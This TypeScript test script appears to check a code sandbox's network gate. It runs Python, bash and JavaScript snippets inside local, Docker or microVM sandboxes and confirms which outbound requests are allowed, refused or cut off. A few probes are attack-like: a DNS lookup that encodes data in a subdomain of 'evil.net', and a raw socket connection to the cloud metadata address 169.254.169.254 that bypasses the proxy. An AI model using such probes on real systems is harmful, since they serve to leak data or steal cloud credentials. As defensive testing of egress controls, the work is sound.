import { spawn } from 'node:child_process'
import { createHash } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { createServer as createHttp, type RequestListener } from 'node:http'
import { createServer as createHttps } from 'node:https'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { ZipFile } from 'yazl'
import { systemClock } from '../../clock.ts'
import type { NetworkRequest } from '../../contract/network.ts'
import { type Language, Limits } from '../../contract/run.ts'
import { dockerProvider } from '../../sandbox/docker/docker.ts'
import { localProvider } from '../../sandbox/local/local.ts'
import { testMachines } from '../../sandbox/microvm/machines.testing.ts'
import type { Sandbox } from '../../sandbox/sandbox.ts'
import { runIn, temporaryHome, testIds } from '../../sandbox/testing.ts'
import { createGate, fetchOnce } from '../network.ts'
import { makeCertificate } from './certificates.testing.ts'
import { openNames } from './world.testing.ts'

/**
 * Run inside a namespace, as the super-user: what people use, from a real sandbox to real servers. Prints what happened.
 * With an argument, from a container of the engine that it names, or from a virtual machine when that is `microvm`.
 */
const carrier = process.argv[2]
const host = 'data.example.org'
const nowhere = 'nowhere.example.org'
const { authority, certificate, key } = makeCertificate(host)
const big = Buffer.alloc(20 * 1024 * 1024, 'countersign ')
const wheel = await makeWheel()
const wheelName = 'tiny_feed-1.0-py3-none-any.whl'

/** The smallest package that pip takes. */
async function makeWheel(): Promise<Buffer> {
  const archive = new ZipFile()
  const at = (name: string) => `tiny_feed-1.0.dist-info/${name}`
  archive.addBuffer(Buffer.from('Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n'), at('WHEEL'))
  archive.addBuffer(Buffer.from('Metadata-Version: 2.1\nName: tiny-feed\nVersion: 1.0\n'), at('METADATA'))
  archive.addBuffer(Buffer.from(''), at('RECORD'))
  archive.end()
  return buffer(archive.outputStream)
}

const serve: RequestListener = (request, response) => {
  const path = request.url ?? ''
  if (path === '/rates.csv') response.end('currency,rate\nUSD,1.0832\nGBP,0.8561\n')
  else if (path === '/big') response.end(big)
  else if (path === '/moved') response.writeHead(302, { location: 'https://10.0.0.5/' }).end()
  else if (path === '/slow') response.write('begun')
  else if (path === '/taken') response.write('begun', () => void sandbox.narrow?.([]))
  else if (path === '/simple/tiny-feed/') {
    const hash = createHash('sha256').update(wheel).digest('hex')
    response.setHeader('content-type', 'text/html')
    response.end(`<a href="/files/${wheelName}#sha256=${hash}">${wheelName}</a>`)
  } else if (path.startsWith('/files/')) response.end(wheel)
  else response.end(JSON.stringify({ path, method: request.method }))
}
const names = await openNames(
  (name, family) => (family === 4 && name !== nowhere ? ['93.184.216.34'] : []),
  () => undefined,
)
const servers = [createHttp(serve).listen(80), createHttps({ cert: certificate, key }, serve).listen(443)]

const { home, remove } = await temporaryHome()
const gate = createGate()
const parts = { home, clock: systemClock, ids: testIds, network: gate }
const provider =
  carrier === 'microvm'
    ? testMachines(home, { network: gate })
    : carrier
      ? dockerProvider({ ...parts, env: { DOCKER_HOST: carrier } })
      : localProvider(parts)
// Imitated processors are slow, and a handshake of TLS is much to compute.
const limits = Limits.parse({ timeoutMs: carrier === 'microvm' ? 600_000 : 20_000 })

async function open(): Promise<Sandbox> {
  const opened = await provider.open({ limits: Limits.parse({}) }, new AbortController().signal)
  if (!opened.ok) throw new Error(opened.problem.message)
  await opened.value.files.write('ca.pem', Buffer.from(authority))
  return opened.value
}
const trust = {
  SSL_CERT_FILE: '/work/ca.pem',
  REQUESTS_CA_BUNDLE: '/work/ca.pem',
  CURL_CA_BUNDLE: '/work/ca.pem',
  PIP_CERT: '/work/ca.pem',
}
const both = [`https://${host}:443`, `http://${host}:80`]

interface Seen {
  readonly stdout: string
  readonly error: string | null
  readonly traceback: string[]
  readonly network: NetworkRequest[]
}
const seen: Record<string, Seen> = {}
const sandbox = await open()
async function attempt(name: string, language: Language, code: string, network: string[] = both, where = sandbox) {
  const ran = await runIn(where, language, code, { network, env: trust, limits })
  seen[name] = {
    stdout: ran.stdout,
    error: ran.error?.message ?? null,
    traceback: ran.error?.traceback ?? [],
    network: ran.network,
  }
}

await attempt('urllib', 'python', `import urllib.request as u\nprint(u.urlopen("https://${host}/a").read().decode())`)
await attempt('requests', 'python', `import requests\nprint(requests.get("https://${host}/b").text)`)
await attempt('pandas', 'python', `import pandas\nprint(pandas.read_csv("https://${host}/rates.csv").rate.sum())`)
await attempt('plain', 'python', `import urllib.request as u\nprint(u.urlopen("http://${host}/c").read().decode())`)
await attempt('curl', 'bash', `curl -sS https://${host}/d`)
await attempt('fetch', 'javascript', `console.log(await (await fetch("http://${host}/e")).text())`)
await attempt(
  'fetch tls',
  'javascript',
  `const client = Deno.createHttpClient({ caCerts: [Deno.readTextFileSync("/work/ca.pem")] })\nconsole.log(await (await fetch("https://${host}/f", { client })).text())`,
)
await attempt(
  'pip',
  'bash',
  `python3 -m pip download --no-deps --disable-pip-version-check -q -i https://${host}/simple/ -d out tiny-feed && ls out`,
)
await attempt(
  'download',
  'python',
  `import urllib.request as u, hashlib\nprint(hashlib.sha256(u.urlopen("https://${host}/big").read()).hexdigest())`,
)
await attempt('not granted', 'python', `import urllib.request as u\nu.urlopen("https://other.example.org/")`)
await attempt(
  'another failure',
  'python',
  `import urllib.request as u\ntry: u.urlopen("https://other.example.org/")\nexcept OSError: pass\nu.urlopen("https://${host}/k")\nraise ValueError("bad figure")`,
)
const other = 'https://other.example.org/'
await attempt('requests not granted', 'python', `import requests\nrequests.get("${other}")`)
await attempt('pandas not granted', 'python', `import pandas\npandas.read_csv("${other}")`)
await attempt('curl not granted', 'bash', `curl -sS ${other}`)
await attempt('fetch not granted', 'javascript', `await fetch("${other}")`)
await attempt(
  'pip not granted',
  'bash',
  `python3 -m pip download --no-deps --disable-pip-version-check -q --retries 0 -i ${other}simple/ -d out tiny-feed`,
)
const toNowhere = [`https://${nowhere}:443`, 'https://10.0.0.5:443']
await attempt('no address', 'python', `import requests\nrequests.get("https://${nowhere}/")`, toNowhere)
await attempt('no address, curl', 'bash', `curl -sS https://${nowhere}/`, toNowhere)
await attempt('a private address', 'javascript', `await fetch("https://10.0.0.5/")`, toNowhere)
await attempt('writing', 'python', `import urllib.request as u\nu.urlopen("http://${host}/", data=b"x")`)
await attempt('nothing granted', 'bash', `curl -s http://${host}/`, [])
await attempt('name asked', 'python', `import socket\nsocket.gethostbyname("c2VjcmV0.evil.net")`)
await attempt(
  'own server',
  'python',
  `import threading, http.server, urllib.request as u\ns = http.server.HTTPServer(("localhost", 0), http.server.SimpleHTTPRequestHandler)\ns.RequestHandlerClass.log_message = lambda *a: None\nthreading.Thread(target=s.handle_request).start()\nprint(u.urlopen(f"http://localhost:{s.server_port}/ca.pem").status)`,
  [],
)
await attempt(
  'around the proxy',
  'python',
  `import socket\nfor address in ("93.184.216.34", "10.0.0.5", "169.254.169.254"):\n  try: socket.create_connection((address, 443), 2); print("reached", address)\n  except OSError as error: print(error.errno)`,
)

// What the application fetches for itself takes the same way.
const fetched: Record<string, unknown> = {}
async function fetchIt(name: string, path: string, change: { rules?: string[]; ca?: string; mostBytes?: number } = {}) {
  const url = new URL(`https://${host}${path}`)
  const methods = ['GET' as const]
  const options = {
    rules: both,
    methods,
    ca: authority,
    mostBytes: 1000,
    signal: new AbortController().signal,
    ...change,
  }
  const got = await fetchOnce(gate, url, options)
  fetched[name] = got.ok ? { text: got.value.bytes.toString(), requests: got.value.requests } : got.problem
}
await fetchIt('whole', '/rates.csv')
await fetchIt('moved', '/moved')
await fetchIt('too large', '/big')
await fetchIt('not granted', '/a', { rules: ['https://other.example.org:443'] })
await fetchIt('unknown authority', '/a', { ca: makeCertificate('other.example.org').authority })

// A connection that outlives its run is cut off, and one that is opened later is refused.
await attempt(
  'kept',
  'python',
  `import socket\nkept = socket.create_connection(("127.0.0.1", 3128))\nkept.sendall(b"GET http://${host}/slow HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")\nprint(kept.recv(15))`,
)
await attempt(
  'kept, later',
  'python',
  `kept.settimeout(5)\nrest = b""\nwhile data := kept.recv(1000): rest += data\nprint(b"begun" in rest or rest)`,
)

// What is taken back while the run goes on is cut off in the middle, and not given again.
await attempt(
  'taken back',
  'python',
  `import urllib.request as u\nanswer = u.urlopen("http://${host}/taken", timeout=20)\ntry: print("whole", answer.read())\nexcept Exception as error: print("cut off", type(error).__name__)\nu.urlopen("http://${host}/again")`,
)

// A fork has a network of its own, and its original keeps one.
const forked = await sandbox.fork?.()
if (forked?.ok) {
  await attempt(
    'in the fork',
    'python',
    `import urllib.request as u\nprint(u.urlopen("http://${host}/g").read().decode())`,
    both,
    forked.value,
  )
  await attempt(
    'in the original',
    'python',
    `import urllib.request as u\nprint(u.urlopen("http://${host}/h").read().decode())`,
  )
  await attempt(
    'fork without a grant',
    'python',
    `import urllib.request as u\nprint(u.urlopen("http://${host}/i").read().decode())`,
    [],
    forked.value,
  )
}

// Many at once, and a flood that nobody reads, while the sandbox still answers.
await attempt(
  'many',
  'python',
  `import urllib.request as u, concurrent.futures as f\nwith f.ThreadPoolExecutor(40) as pool: print(sum(pool.map(lambda n: u.urlopen(f"http://${host}/{n}").status, range(60))))`,
)

// From the terminal, through guard, approval and record.
writeFileSync(
  join(home, 'program.py'),
  `import urllib.request as u\nprint(u.urlopen("http://${host}/j").read().decode())`,
)
const terminal = (...args: string[]): Promise<{ code: number | null; out: string }> =>
  new Promise(resolve => {
    const env = { ...process.env, COUNTERSIGN_HOME: join(home, 'data') }
    const child = spawn(process.execPath, ['src/doors/cli/entry.ts', ...args], {
      env,
      stdio: ['ignore', 'pipe', 'ignore'],
    })
    let out = ''
    child.stdout.on('data', data => (out += data))
    child.on('close', code => resolve({ code, out }))
  })
const program = join(home, 'program.py')
async function fromTerminal() {
  const allowed = await terminal('run', program, '--allow', `http://${host}`, '--approve', '--json')
  const unasked = await terminal('run', program, '--allow', `http://${host}`)
  const record = await terminal('audit', 'query', '--text', host, '--json')
  return { allowed: JSON.parse(allowed.out), unasked: unasked.code, record: record.out }
}
const cli = carrier ? null : await fromTerminal()

console.log(JSON.stringify({ cli, seen, fetched, bigHash: createHash('sha256').update(big).digest('hex') }))
await provider.close()
await gate.close()
await remove()
names.close()
for (const server of servers) server.close()
process.exit(0)
